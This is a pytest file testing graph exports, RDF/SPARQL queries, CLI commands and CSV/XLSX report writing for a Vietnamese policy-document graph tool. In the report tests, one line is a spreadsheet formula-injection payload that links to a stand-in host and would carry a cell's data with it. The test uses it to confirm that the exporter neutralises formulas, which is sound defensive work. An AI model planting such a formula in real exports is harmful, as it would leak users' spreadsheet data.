"""Exports (JSON, GraphML, CSV, Turtle, JSON-LD), the RDF round trip, SPARQL and the CLI commands."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
import rdflib
from conftest import D31, D98, HCM08, HP08, PLAN150, policy_graph, save_graph
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from policygraph.graph.neo4j_csv import csv_tables, to_csv
from policygraph.ontology import vocab
from policygraph.ontology.export import (
    export_text,
    from_json,
    graphml_text,
    to_graphml,
    to_json,
    write_export,
)
from policygraph.ontology.rdf import (
    from_rdf,
    node_iri,
    parse_rdf,
    read_rdf,
    sparql,
    to_jsonld,
    to_rdf,
    to_turtle,
)

PG = rdflib.Namespace(vocab.PG)


def edges_of(G: nx.MultiDiGraph) -> list[tuple[Any, ...]]:
    return sorted(
        (
            (u, v, str(k), json.dumps(d, sort_keys=True, ensure_ascii=False))
            for u, v, k, d in G.edges(keys=True, data=True)
        )
    )


def nodes_of(G: nx.MultiDiGraph) -> dict[Any, dict[str, Any]]:
    return {n: dict(d) for n, d in G.nodes(data=True)}


# -------------------------------------------------------------------------------------------------- JSON
def test_json_has_the_fields_the_scorer_reads(graph: nx.MultiDiGraph) -> None:
    data = to_json(graph)
    json.dumps(data)  # serialisable as is
    assert data["directed"] and data["multigraph"]
    assert len(data["nodes"]) == graph.number_of_nodes()
    assert len(data["edges"]) == graph.number_of_edges()
    by_id = {n["id"]: n for n in data["nodes"]}
    for node in data["nodes"]:
        assert {"id", "kind", "label"} <= node.keys()
        if node["kind"] == "Document":
            fields = {"symbol", "number", "date", "year", "issuer", "jurisdiction", "term", "source_file"}
            assert fields <= node.keys()
    # the two 08-NQ/TU stay two nodes, told apart by jurisdiction and date
    eights = [n for n in data["nodes"] if n.get("symbol") == "08-NQ/TU"]
    assert {n["jurisdiction"] for n in eights} == {"Thành phố Hồ Chí Minh", "Hải Phòng"}
    assert by_id[HP08]["date"] == "2022-12-06" and by_id[HCM08]["date"] == "2023-02-10"
    for edge in data["edges"]:
        assert {"source", "target", "key", "type", "kind", "source_file", "evidence"} <= edge.keys()
        assert set(edge["evidence"]) == {"file", "start", "end", "sentence"}
    impl = [e for e in data["edges"] if e["type"] == "IMPLEMENTS" and e["source"] == HCM08 and e["target"] == D98]
    assert impl[0]["kind"] == "based_on"


def test_json_round_trips(graph: nx.MultiDiGraph) -> None:
    back = from_json(json.loads(export_text(graph, "json")))
    assert nodes_of(back) == nodes_of(graph)
    assert edges_of(back) == edges_of(graph)


def test_json_fills_schema_fields_and_reads_links() -> None:
    G = nx.MultiDiGraph()
    G.add_node("a", kind="Document", label="Resolution", symbol="1-NQ/TW", sources={"b.txt", "a.txt"})
    G.add_node("b", kind="Body", label="Body", name="Quốc hội")
    G.add_edge("a", "b", type="ISSUED_BY")
    data = to_json(G)
    node = data["nodes"][0]
    assert node["date"] is None and node["jurisdiction"] is None and node["sources"] == ["a.txt", "b.txt"]
    assert data["edges"][0]["kind"] is None and data["edges"][0]["evidence"] is None
    data["links"] = data.pop("edges")
    assert from_json(data).number_of_edges() == 1


# ----------------------------------------------------------------------------------------------- GraphML
def test_graphml_round_trips_with_networkx(graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    path = to_graphml(graph, tmp_path / "g.graphml")
    back = nx.read_graphml(path)
    assert isinstance(back, nx.MultiDiGraph)
    assert back.number_of_nodes() == graph.number_of_nodes()
    assert back.number_of_edges() == graph.number_of_edges()
    d = back.nodes[D31]
    assert d["label"] == "Resolution" and d["symbol"] == "31-NQ/TW" and d["year"] == 2022
    assert "jurisdiction" not in d  # None is left out
    assert json.loads(d["sources"]) == graph.nodes[D31]["sources"]
    assert json.loads(back.nodes[HCM08]["conflicts"]) == graph.nodes[HCM08]["conflicts"]
    assert back.nodes[HP08]["jurisdiction"] == "Hải Phòng"
    by_key = {(u, v, d["key"]): d for u, v, d in back.edges(data=True)}
    assert len(by_key) == graph.number_of_edges()
    assert len({k for _, _, k in back.edges(keys=True)}) == graph.number_of_edges()  # unique GraphML ids
    for u, v, k, data in graph.edges(keys=True, data=True):
        e = by_key[u, v, k]  # the networkx key travels as the attribute "key"
        assert e["type"] == data["type"]
        assert e.get("kind") == data["kind"]
        assert e["evidence_file"] == data["evidence"]["file"]
        assert e["evidence_start"] == data["evidence"]["start"]
        assert e["evidence_end"] == data["evidence"]["end"]
        assert e["evidence_sentence"] == data["evidence"]["sentence"]
    assert graphml_text(graph).startswith("<graphml") or "<graphml" in graphml_text(graph)[:300]


def test_graphml_survives_control_characters_and_mixed_types(tmp_path: Path) -> None:
    G = nx.MultiDiGraph()
    G.add_node("a", kind="Document", label="Document", title="trang\x0c1\x00 và\r\n2", year=2020, extra=1)
    G.add_node("b", kind="Document", label="Document", year=None, extra="x")
    G.add_edge("a", "b", type="CITES", kind=None, evidence={"file": "f", "start": 0, "end": 1, "sentence": "a\x0bb"})
    back = nx.read_graphml(to_graphml(G, tmp_path / "g.graphml"), force_multigraph=True)
    assert back.nodes["a"]["title"] == "trang 1  và\n2"
    assert back.nodes["a"]["extra"] == "1" and back.nodes["b"]["extra"] == "x"
    assert "year" not in back.nodes["b"]
    [(_, _, e)] = back.edges(data=True)
    assert e["evidence_sentence"] == "a b"


# --------------------------------------------------------------------------------------------------- CSV
def test_csv_is_neo4j_import_shaped(graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    nodes_path, rels_path, files_path = to_csv(graph, tmp_path / "neo4j")
    files = list(csv.DictReader(io.StringIO(files_path.read_text(encoding="utf-8"))))
    assert files and {f[":LABEL"] for f in files} == {"SourceFile"}  # push manifests: a push after skips them
    assert all(f["digest"] and f["node_ids:string[]"] for f in files)
    nodes = list(csv.reader(io.StringIO(nodes_path.read_text(encoding="utf-8"))))
    rels = list(csv.reader(io.StringIO(rels_path.read_text(encoding="utf-8"))))
    header = nodes[0]
    assert header[:2] == ["id:ID", ":LABEL"]
    assert {"symbol", "number", "date", "year:int", "issuer", "jurisdiction", "sources:string[]"} <= set(header)
    assert rels[0] == [
        ":START_ID", ":END_ID", ":TYPE", "kind", "source_file", "source_path",
        "evidence_file", "evidence_start:int", "evidence_end:int", "evidence_sentence",
        "evidence_sentence_start:int", "evidence_sentence_end:int", "origin", "pg_key", "pg_file", "pg_json:string[]",
    ]  # fmt: skip
    assert len(nodes) - 1 == graph.number_of_nodes()
    assert len(rels) - 1 == graph.number_of_edges()
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in nodes[1:]}
    assert (
        rows[D31][":LABEL"] == "Document;Resolution" and rows[D31]["label"] == "Resolution"
    )  # a property too, as push
    assert rows[D31]["year:int"] == "2022"
    # the search keys push writes, so an imported graph answers look-ups (graph.neo4j_read.fetch_candidates)
    assert (rows[D31]["pg_symbol"], rows[D31]["pg_number"]) == ("31-nq/tw", "31")
    assert rows[D31]["pg_names:string[]"]
    assert rows[D31]["sources:string[]"] == ";".join(graph.nodes[D31]["sources"])
    assert rows[PLAN150][":LABEL"] == "Document;Plan"
    assert {r[":LABEL"] for r in rows.values()} >= {"Body", "Project"}
    assert rows[HP08]["jurisdiction"] == "Hải Phòng"
    assert rows[D31]["jurisdiction"] == ""  # None -> empty -> null on import
    types = {r[2] for r in rels[1:]}
    assert types == {"CITES", "IMPLEMENTS", "SUPERSEDES", "ISSUED_BY", "PART_OF", "MENTIONS"}
    for r in rels[1:]:
        assert r[0] in graph and r[1] in graph
        assert int(r[7]) < int(r[8])


def test_csv_keeps_rows_on_one_line() -> None:
    G = nx.MultiDiGraph()
    G.add_node("a", kind="Document", label="Law", title="dòng 1\ndòng 2", year="2020", missing=["date"])
    G.add_edge("a", "a", type="CITES", evidence={"file": "f", "start": 0, "end": 1, "sentence": "x\r\ny"})
    nodes_text, rels_text = csv_tables(G)
    assert len(nodes_text.splitlines()) == 2 and len(rels_text.splitlines()) == 2
    assert "dòng 1 dòng 2" in nodes_text and "x y" in rels_text
    assert ",2020," in nodes_text


def test_csv_streamed_from_a_store_is_the_whole_graphs(sample_store: Path, tmp_path: Path) -> None:
    """A store's CSVs are streamed from the rows push writes (a batch of files at a time), each node once:
    the same header and rows as the CSVs of the whole graph held in memory."""
    from policygraph.graph.store import open_source, read_graph
    from policygraph.graph.store_push import write_csv
    from policygraph.graph.validity import with_status

    src = open_source(sample_store)
    paths, n_nodes, n_rels = write_csv(src, tmp_path / "streamed")  # type: ignore[arg-type]
    src.close()
    whole = csv_tables(with_status(read_graph(sample_store)))

    def table(text: str) -> tuple[list[str], list[list[str]]]:
        rows = list(csv.reader(io.StringIO(text)))
        return rows[0], sorted(rows[1:])

    for path, text in zip(paths, whole, strict=False):
        assert table(path.read_text(encoding="utf-8")) == table(text)
    assert (n_nodes, n_rels) == (len(table(whole[0])[1]), len(table(whole[1])[1]))
    header, files = table(paths[2].read_text(encoding="utf-8"))
    assert header[0] == "name:ID(SourceFile)" and len(files) == 5  # the five files' push manifests
    assert sorted(p.name for p in (tmp_path / "streamed").iterdir()) == [
        "nodes.csv",
        "relationships.csv",
        "sourcefiles.csv",
    ]


# --------------------------------------------------------------------------------------------------- RDF
@pytest.mark.parametrize("fmt", ["turtle", "json-ld"])
def test_rdf_round_trips(graph: nx.MultiDiGraph, fmt: str) -> None:
    text = to_turtle(graph) if fmt == "turtle" else to_jsonld(graph)
    g = read_rdf(text, fmt)
    assert len(g) == len(to_rdf(graph))
    back = from_rdf(g)
    assert set(back.nodes) == set(graph.nodes)
    assert {n: d["label"] for n, d in back.nodes(data=True)} == {n: d["label"] for n, d in graph.nodes(data=True)}
    assert nodes_of(back) == nodes_of(graph)
    assert edges_of(back) == edges_of(graph)


def test_rdf_uses_the_ontology(graph: nx.MultiDiGraph) -> None:
    g = to_rdf(graph)
    d31, d98, hcm = node_iri(D31), node_iri(D98), node_iri(HCM08)
    assert (d31, rdflib.RDF.type, PG.Resolution) in g
    assert (d31, rdflib.RDF.type, PG.Document) in g  # entailed
    assert (d31, PG.symbol, rdflib.Literal("31-NQ/TW")) in g
    assert (d31, PG.date, rdflib.Literal("2022-12-30", datatype=rdflib.XSD.date)) in g
    assert (hcm, PG.basedOn, d98) in g and (hcm, PG.implements, d98) in g
    assert (d98, PG.replaces, node_iri("doc:54/2017/QH14")) in g
    assert (d98, PG.supersedes, node_iri("doc:54/2017/QH14")) in g
    plain = to_rdf(graph, entail=False)
    assert (d31, rdflib.RDF.type, PG.Document) not in plain
    assert (hcm, PG.implements, d98) not in plain  # only pg:basedOn, its sub-property
    assert (hcm, PG.implements, d31) in plain
    assert len(list(plain.subjects(rdflib.RDF.type, PG.Evidence))) == graph.number_of_edges()
    assert str(node_iri(HP08)).endswith("doc%3A08-NQ%2FTU%40H%E1%BA%A3i%20Ph%C3%B2ng%402022-12-06")


def test_rdf_rejects_what_the_ontology_does_not_know() -> None:
    G = nx.MultiDiGraph()
    G.add_node("a", kind="Document", label="Memo")
    with pytest.raises(ValueError, match="Memo"):
        to_rdf(G)
    G = nx.MultiDiGraph()
    G.add_node("a", kind="Document", label="Document")
    G.add_edge("a", "a", type="LIKES")
    with pytest.raises(ValueError, match="LIKES"):
        to_rdf(G)


def test_rdf_keeps_an_unforeseen_kind_and_extra_attributes() -> None:
    G = nx.MultiDiGraph()
    G.add_node("a", kind="Document", label="Document", confidence=0.5, sources=["b", "a"], missing=[])
    G.add_edge("a", "a", key=7, type="IMPLEMENTS", kind="continues", weight=2)
    back = parse_rdf(to_turtle(G))
    assert back.nodes["a"]["confidence"] == 0.5
    assert back.nodes["a"]["sources"] == ["b", "a"] and back.nodes["a"]["missing"] == []
    assert back.edges["a", "a", 7] == {
        "type": "IMPLEMENTS", "kind": "continues", "weight": 2, "source_file": None, "source_path": None,
        "evidence": None, "origin": None,
    }  # fmt: skip


# ------------------------------------------------------------------------------------------------ SPARQL
def test_sparql_finds_the_implementing_documents(graph: nx.MultiDiGraph) -> None:
    rows = sparql(
        graph,
        """SELECT ?doc WHERE { ?doc pg:implements ?target . ?target pg:symbol "98/2023/QH15" }
           ORDER BY ?doc""",
    )
    assert [r["doc"] for r in rows] == sorted([HCM08, PLAN150])  # both via căn cứ (pg:basedOn)
    rows = sparql(graph, 'SELECT ?doc WHERE { ?doc pg:basedOn ?t . ?t pg:symbol "98/2023/QH15" }')
    assert {r["doc"] for r in rows} == {HCM08, PLAN150}
    rows = sparql(graph, 'SELECT ?doc WHERE { ?doc pg:implements ?t . ?t pg:symbol "31-NQ/TW" }')
    assert [r["doc"] for r in rows] == [HCM08]


def test_sparql_tells_the_two_08_apart_and_reads_evidence(graph: nx.MultiDiGraph) -> None:
    rows = sparql(
        graph,
        """SELECT ?doc ?date WHERE { ?doc pg:symbol "08-NQ/TU" ; pg:date ?date ;
               pg:inJurisdiction/rdfs:label "Hải Phòng" }""",
    )
    assert rows == [{"doc": HP08, "date": "2022-12-06"}]
    rows = sparql(
        graph,
        """SELECT ?sentence WHERE { ?st rdf:subject ?s ; rdf:predicate pg:replaces ; pg:evidence ?ev .
               ?ev pg:sentence ?sentence }""",
    )
    assert rows[0]["sentence"].startswith("Nghị quyết số 98/2023/QH15 thay thế")
    assert sparql(graph, "ASK { ?a pg:amends ?b }") == [{"ask": False}]
    assert sparql(graph, "ASK { ?a eli:changes ?b }") == [{"ask": False}]  # ELI terms are not materialised
    rows = sparql(graph, "SELECT ?l WHERE { pg:Resolution rdfs:label ?l FILTER(lang(?l) = 'vi') }")
    assert rows == [{"l": "Nghị quyết"}]
    built = sparql(graph, "CONSTRUCT { ?a pg:implements ?b } WHERE { ?a pg:basedOn ?b }")
    assert {r["subject"] for r in built} == {HCM08, PLAN150}
    rows = sparql(graph, 'SELECT ?d ?j WHERE { ?d pg:symbol "31-NQ/TW" OPTIONAL { ?d pg:inJurisdiction ?j } }')
    assert rows == [{"d": D31, "j": None}]


# ------------------------------------------------------------------------------------ random small graphs
TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=12)
LABELS = st.sampled_from(vocab.NODE_LABELS)


@st.composite
def small_graphs(draw: st.DrawFn) -> nx.MultiDiGraph:
    G = nx.MultiDiGraph()
    ids = draw(st.lists(TEXT.filter(lambda s: s and s.strip() == s), min_size=1,
                        max_size=6, unique=True))  # fmt: skip
    for n in ids:
        label = draw(LABELS)
        kind = vocab.kind_of_label(label)
        attrs: dict[str, Any] = {"kind": kind, "label": label}
        for field in vocab.SCALAR_NODE_ATTRIBUTES[kind]:
            if field == "year":
                attrs[field] = draw(st.none() | st.integers(1945, 2100))
            elif field == "date":
                attrs[field] = draw(st.none() | st.dates().map(lambda d: d.isoformat()) | TEXT)
            else:
                attrs[field] = draw(st.none() | TEXT)
        attrs["sources"] = draw(st.lists(TEXT, max_size=3))
        if kind == "Document":
            attrs["resolved"] = draw(st.booleans())
            attrs["conflicts"] = draw(st.dictionaries(st.sampled_from(["date", "issuer"]),
                                                      st.lists(st.fixed_dictionaries({"value": TEXT, "file": TEXT}),
                                                               max_size=2), max_size=2))  # fmt: skip
        G.add_node(n, **attrs)
    for _ in range(draw(st.integers(0, 8))):
        u, v = draw(st.sampled_from(ids)), draw(st.sampled_from(ids))
        type_ = draw(st.sampled_from(vocab.RELATION_TYPES))
        kind_ = draw(st.sampled_from((None, *vocab.EDGE_KINDS.get(type_, ()))))
        data: dict[str, Any] = {
            "type": type_,
            "kind": kind_,
            "source_file": None,
            "source_path": None,
            "evidence": None,
            "origin": draw(st.sampled_from((None, *vocab.EDGE_ORIGINS))),
        }
        if draw(st.booleans()):
            start = draw(st.integers(0, 10_000))
            data["source_path"] = draw(TEXT)
            data["source_file"] = data["source_path"].rsplit("/", 1)[-1]
            data["evidence"] = {"file": data["source_file"], "start": start,
                                "end": start + draw(st.integers(1, 80)), "sentence": draw(TEXT)}  # fmt: skip
        key = draw(st.none() | TEXT | st.integers(0, 5))
        if key is not None and G.has_edge(u, v, key):
            continue
        G.add_edge(u, v, key=key, **data)
    return G


@given(small_graphs())
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_random_graphs_round_trip_through_rdf_and_json(G: nx.MultiDiGraph) -> None:
    back = parse_rdf(to_turtle(G))
    assert nodes_of(back) == nodes_of(G)
    assert edges_of(back) == edges_of(G)
    back = parse_rdf(to_jsonld(G), "json-ld")
    assert nodes_of(back) == nodes_of(G)
    assert edges_of(back) == edges_of(G)
    back = from_json(json.loads(export_text(G, "json")))
    assert nodes_of(back) == nodes_of(G)
    assert edges_of(back) == edges_of(G)


@given(small_graphs())
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_random_graphs_round_trip_through_graphml(G: nx.MultiDiGraph) -> None:
    back = nx.read_graphml(io.BytesIO(graphml_text(G).encode("utf-8")), force_multigraph=True)
    assert back.number_of_nodes() == G.number_of_nodes()
    assert back.number_of_edges() == G.number_of_edges()
    assert sorted(str(d.get("key")) for _, _, d in back.edges(data=True)) == sorted(
        str(k) for _, _, k in G.edges(keys=True)
    )
    for n, d in G.nodes(data=True):
        got = back.nodes[str(n)]
        assert got["label"] == d["label"]
        for k, v in d.items():
            if isinstance(v, str):
                assert got[k] == v.replace("\r\n", "\n").replace("\r", "\n")
            elif isinstance(v, int) and not isinstance(v, bool):
                assert got[k] == v


# --------------------------------------------------------------------------------------------------- CLI
@pytest.fixture
def store(tmp_path: Path) -> Path:
    path = tmp_path / "store.json"
    save_graph(path, policy_graph())
    return path


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


def invoke(runner: CliRunner, *args: str) -> Any:
    import policygraph.cli  # noqa: F401  (registers the commands)
    from policygraph.cli.app import app

    return runner.invoke(app, list(args))


def test_cli_export_json_to_stdout(runner: CliRunner, store: Path) -> None:
    r = invoke(runner, "export", "--store", str(store))
    assert r.exit_code == 0, r.output
    data = json.loads(r.stdout)
    assert len(data["nodes"]) == policy_graph().number_of_nodes()


@pytest.mark.parametrize("fmt", ["json", "graphml", "ttl", "jsonld"])
def test_cli_export_to_a_file(runner: CliRunner, store: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"g.{fmt}"
    r = invoke(runner, "export", "--format", fmt, "-o", str(out), "--store", str(store))
    assert r.exit_code == 0, r.output
    text = out.read_text(encoding="utf-8")
    if fmt == "ttl":
        assert from_rdf(read_rdf(text, "turtle")).number_of_edges() == 19
    elif fmt == "jsonld":
        assert from_rdf(read_rdf(text, "json-ld")).number_of_nodes() == 15
    elif fmt == "graphml":
        assert nx.read_graphml(out).number_of_edges() == 19
    else:
        assert len(json.loads(text)["edges"]) == 19


def test_cli_export_csv_is_a_folder_given_with_out_dir(runner: CliRunner, store: Path, tmp_path: Path) -> None:
    r = invoke(runner, "export", "--format", "csv", "--store", str(store))
    assert r.exit_code == 1 and r.stderr.count("\n") == 1 and "--out-dir DIR" in r.stderr
    # -o report.csv used to make a folder named report.csv, silently: now it says what csv is
    r = invoke(runner, "export", "--format", "csv", "-o", str(tmp_path / "report.csv"), "--store", str(store))
    assert r.exit_code == 1 and r.stderr.count("\n") == 1
    assert "Neo4j-import" in r.stderr and "--out-dir" in r.stderr and not (tmp_path / "report.csv").exists()
    r = invoke(runner, "export", "--format", "ttl", "--out-dir", str(tmp_path / "x"), "--store", str(store))
    assert r.exit_code == 1 and "--out-dir is for --format csv" in r.stderr and not (tmp_path / "x").exists()
    r = invoke(runner, "export", "--format", "csv", "--out-dir", str(tmp_path / "csv"), "--store", str(store))
    assert r.exit_code == 0, r.output
    assert "Neo4j-import" in r.stderr
    nodes = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "nodes.csv").read_text(encoding="utf-8"))))
    rels = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "relationships.csv").read_text(encoding="utf-8"))))
    assert (len(nodes), len(rels)) == (15, 19)


def test_cli_export_dash_is_standard_output(runner: CliRunner, store: Path, tmp_path: Path) -> None:
    r = invoke(runner, "export", "--format", "ttl", "-o", "-", "--store", str(store))
    assert r.exit_code == 0, r.output
    assert from_rdf(read_rdf(r.stdout, "turtle")).number_of_edges() == 19
    assert not Path("-").exists()


@pytest.mark.parametrize("fmt", ["json", "graphml", "ttl", "jsonld"])
def test_cli_export_refuses_to_overwrite_the_store(
    runner: CliRunner, store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    before = store.read_bytes()
    link = tmp_path / "link.json"
    link.symlink_to(store)
    monkeypatch.chdir(tmp_path)
    for target in (str(store), "store.json", "./store.json", str(link), str(store) + ".lock"):
        r = invoke(runner, "export", "--format", fmt, "-o", target, "--store", str(store))
        assert r.exit_code == 1, (target, r.output)
        assert r.stderr.count("\n") == 1 and "refusing to write" in r.stderr and "store" in r.stderr
    monkeypatch.setenv("POLICYGRAPH_STORE", str(store))  # the store named by the environment, not --store
    r = invoke(runner, "export", "--format", fmt, "-o", "store.json")
    assert r.exit_code == 1 and "refusing to write" in r.stderr
    assert store.read_bytes() == before
    r = invoke(runner, "export", "--format", "csv", "--out-dir", str(tmp_path), "--store", str(store))
    assert r.exit_code == 0 and store.read_bytes() == before  # a folder beside the store is fine


def test_cli_without_a_store_says_so(runner: CliRunner, tmp_path: Path) -> None:
    r = invoke(runner, "export", "--store", str(tmp_path / "none.json"))
    assert r.exit_code == 2
    assert "no store" in r.output and "Traceback" not in r.output


def test_cli_sparql(runner: CliRunner, store: Path, tmp_path: Path) -> None:
    q = 'SELECT ?doc ?sym WHERE { ?doc pg:implements ?t ; pg:symbol ?sym . ?t pg:symbol "31-NQ/TW" }'
    r = invoke(runner, "sparql", q, "--json", "--store", str(store))
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout) == [{"doc": HCM08, "sym": "08-NQ/TU"}]
    r = invoke(runner, "sparql", q, "--store", str(store))
    assert r.exit_code == 0 and "08-NQ/TU" in r.stdout and "1 row" in r.stdout
    qfile = tmp_path / "q.rq"
    qfile.write_text("ASK { ?a pg:replaces ?b }", encoding="utf-8")
    r = invoke(runner, "sparql", f"@{qfile}", "--json", "--store", str(store))
    assert json.loads(r.stdout) == [{"ask": True}]
    r = invoke(runner, "sparql", "SELEC nonsense", "--store", str(store))
    assert r.exit_code == 1 and r.output.strip().startswith("error: SPARQL") and "Traceback" not in r.output


def test_cli_view(runner: CliRunner, store: Path, tmp_path: Path) -> None:
    out = tmp_path / "v.html"
    r = invoke(runner, "view", "31-NQ/TW", "--depth", "1", "-o", str(out), "--store", str(store))
    assert r.exit_code == 0, r.output
    assert "31-NQ/TW" in out.read_text(encoding="utf-8")
    r = invoke(runner, "view", "08-NQ/TU", "-o", str(out), "--store", str(store))
    # one resolver for every command: ambiguous is exit 2 with the candidates, as for lineage
    assert r.exit_code == 2 and "ambiguous" in r.output and "Hải Phòng" in r.output
    r = invoke(runner, "view", HP08, "-o", str(out), "--store", str(store))
    assert r.exit_code == 0, r.output
    r = invoke(runner, "view", "99-NQ/TW", "-o", str(out), "--store", str(store))
    assert r.exit_code == 1 and "99-NQ/TW" in r.output
    r = invoke(runner, "view", "-o", str(out), "--store", str(store))
    assert r.exit_code == 0 and "15 nodes" in r.output


def test_write_export_rejects_unknown_format(graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown export format"):
        write_export(graph, "xml", tmp_path / "x")


# ------------------------------------------------------------------------------------------ report exports
def _sample_reports(graph: nx.MultiDiGraph) -> tuple[dict[str, Any], dict[str, Any]]:
    from policygraph.graph import coverage as cov
    from policygraph.graph import queries as q

    return (q.lineage_to_dict(q.lineage(graph, D31, "down")), cov.coverage_to_dict(cov.coverage(graph, D31)))


def test_report_rows_follow_the_lineage_and_the_coverage(graph: nx.MultiDiGraph) -> None:
    from policygraph.ontology.report import COVERAGE_COLUMNS, LINEAGE_COLUMNS, coverage_rows, lineage_rows

    tree, cov = _sample_reports(graph)
    rows = lineage_rows(tree)
    # one row per hop, depth first: who carries out 31-NQ/TW, and what carries those out
    assert [(r["depth"], r["parent"], r["id"]) for r in rows if r["relation"] == "IMPLEMENTS"] == [
        (1, D31, HCM08),
        (2, HCM08, PLAN150),
    ]
    assert all(set(r) == set(LINEAGE_COLUMNS) for r in rows)
    hcm = next(r for r in rows if r["id"] == HCM08)
    assert hcm["jurisdiction"] == "Thành phố Hồ Chí Minh" and "31-NQ/TW" in hcm["sentence"]
    assert hcm["source_file"] == "tphcm_08-nq-tu.txt" and hcm["seen"] is False
    crows = coverage_rows(cov)
    assert [(r["id"], r["distance"], r["chain"]) for r in crows] == [
        (HCM08, 1, "08-NQ/TU → 31-NQ/TW"),
        (PLAN150, 2, "150/KH-UBND → 08-NQ/TU → 31-NQ/TW"),
    ]
    assert all(set(r) == set(COVERAGE_COLUMNS) for r in crows)
    assert crows[1]["relation"] == "IMPLEMENTS" and "08-NQ/TU" in crows[1]["sentence"]


def test_report_csv_is_utf8_with_bom_and_never_a_formula(graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    from policygraph.ontology.report import COVERAGE_COLUMNS, coverage_rows, write_report

    _, cov = _sample_reports(graph)
    rows = coverage_rows(cov)
    rows[0]["sentence"] = '=HYPERLINK("http://x.invalid/?"&A1,"bấm")'  # a hostile sentence
    rows[1]["title"] = "x" * 40_000
    path = write_report(rows, COVERAGE_COLUMNS, tmp_path / "coverage.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    back = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["id"] for r in back] == [HCM08, PLAN150]
    assert back[0]["jurisdiction"] == "Thành phố Hồ Chí Minh"
    assert back[0]["sentence"] == "'" + rows[0]["sentence"]  # shown as text, not run
    assert len(back[1]["title"]) == 32_767 and back[1]["title"].endswith("…")
    assert not list(tmp_path.glob(".*.tmp"))


def test_report_xlsx_holds_text_as_text(graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    import zipfile
    from xml.etree import ElementTree as ET

    from policygraph.ontology.report import LINEAGE_COLUMNS, lineage_rows, write_report

    tree, _ = _sample_reports(graph)
    rows = lineage_rows(tree)
    rows[0]["sentence"] = "=1+1"
    path = write_report(rows, LINEAGE_COLUMNS, tmp_path / "lineage.xlsx")
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = [t.text for t in ET.fromstring(z.read("xl/sharedStrings.xml")).iter() if t.tag.endswith("}t")]
    assert "<f>" not in sheet  # no cell is a formula
    assert "=1+1" in strings and "Thành phố Hồ Chí Minh" in strings and HCM08 in strings
    assert strings[: len(LINEAGE_COLUMNS)] == list(LINEAGE_COLUMNS)
    assert sheet.count("<row ") == len(rows) + 1


def test_report_refuses_an_unknown_suffix(tmp_path: Path) -> None:
    from policygraph.ontology.report import LINEAGE_COLUMNS, write_report

    with pytest.raises(ValueError, match="a report is .csv or .xlsx"):
        write_report([], LINEAGE_COLUMNS, tmp_path / "r.ods")
    assert list(tmp_path.iterdir()) == []
